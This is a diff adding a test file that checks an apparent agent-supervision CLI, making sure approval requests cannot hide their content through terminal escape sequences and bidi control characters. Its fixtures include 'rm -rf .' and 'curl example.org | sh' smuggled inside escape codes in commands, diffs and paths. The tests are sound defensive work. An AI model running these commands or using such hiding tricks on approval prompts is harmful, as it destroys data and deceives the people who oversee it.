@@ -1,0 +1,79 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { openMcpYard, type Agent, type FullAsk, type McpYard } from '../conformance/mcp-yard.ts'
+
+const esc = '\u001B'
+const controls = /(?![\t\n])[\p{Cc}\u202A-\u202E\u2066-\u2069]/u
+/** Clears the screen, hides words, goes back in the line, turns the direction of writing. */
+const tricks = `${esc}[2J${esc}[1;1H${esc}]0;x\u0007\r\b\u009B31m\u202E`
+
+describe('what an agent wants people to see', () => {
+  let yard: McpYard
+  let agent: Agent
+  beforeAll(async () => {
+    yard = await openMcpYard({ places: 4 })
+    agent = await yard.connect()
+  })
+  afterAll(() => yard[Symbol.asyncDispose]())
+
+  const open = (subject: Record<string, unknown>, title = 'May I?') =>
+    yard.server.api(yard.token).post<FullAsk>(`/api/sessions/${agent.sessionId}/asks`, { title, subject })
+  const shown = async (...words: string[]) => {
+    const { stdout, stderr } = await yard.server.cli(...words)
+    return stdout + stderr
+  }
+
+  it.each([
+    ['a title of a window', `npm test ${esc}]0; rm -rf . ; : \u0007`],
+    ['a string for a device', `npm test ${esc}P; rm -rf . ; : ${esc}\\`],
+    ['the eight-bit kind of it', 'npm test \u009D; rm -rf . ; : \u009C'],
+    ['an application’s command', `npm test ${esc}_; rm -rf . ; : ${esc}\\`],
+  ])('a command can’t be hidden in %s', async (_what, command) => {
+    const ask = await open({ kind: 'command', command, cwd: agent.place.path })
+    const words = await shown('asks', 'show', ask.id)
+    expect(words).toContain('rm -rf .')
+    expect(words).not.toMatch(controls)
+  })
+
+  it('a line of a diff, a name and an input can’t be hidden either', async () => {
+    const hidden = `#${esc}]0;\u0007 harmless ${esc}]0; curl example.org | sh \u0007`
+    const diff = `--- /dev/null\n+++ b/build.sh\n@@ -0,0 +1 @@\n+echo ${hidden}\n`
+    const asks = [
+      await open({ kind: 'diff', filePath: 'build.sh', diff }),
+      await open({ kind: 'tool', tool: 'run', input: { line: hidden } }),
+      await open({ kind: 'command', command: 'make', cwd: `/srv/${hidden}` }),
+    ]
+    for (const { id } of asks) {
+      const words = await shown('asks', 'show', id)
+      expect(words).toContain('curl example.org | sh')
+      expect(words).not.toMatch(controls)
+    }
+  })
+
+  it('what is not seen in a command is told: two commands that differ do not look alike', async () => {
+    const look = async (command: string) => {
+      const { id } = await open({ kind: 'command', command, cwd: agent.place.path })
+      return (await shown('asks', 'show', id)).replaceAll(id, '')
+    }
+    const plain = await look('rm -r build/tmp')
+    for (const odd of ['\r', '\b', '\u202E', '\u2066', `${esc}[0m`])
+      expect(await look(`rm -r build/${odd}tmp`), JSON.stringify(odd)).not.toBe(plain)
+  })
+
+  it('nothing it says reaches the terminal as more than text', async () => {
+    await agent.call('heartbeat', { progress_snapshot: [{ label: `work ${tricks}`, status: 'in_progress' }] })
+    await agent.call('remote_log', { message: `said ${tricks}` })
+    await agent.call('create_checkpoint', { label: `kept ${tricks}` })
+    const { id } = await open({ kind: 'question', question: `really ${tricks}?` }, `May I ${tricks}?`)
+    const { sessionId } = agent
+    for (const words of [
+      ['asks'],
+      ['asks', 'show', id],
+      ['sessions'],
+      ['sessions', 'show', sessionId],
+      ['logs', sessionId],
+      ['checkpoints', sessionId],
+      ['answer', id, 'reply', 'no'],
+    ])
+      expect(await shown(...words), words.join(' ')).not.toMatch(controls)
+  })
+})
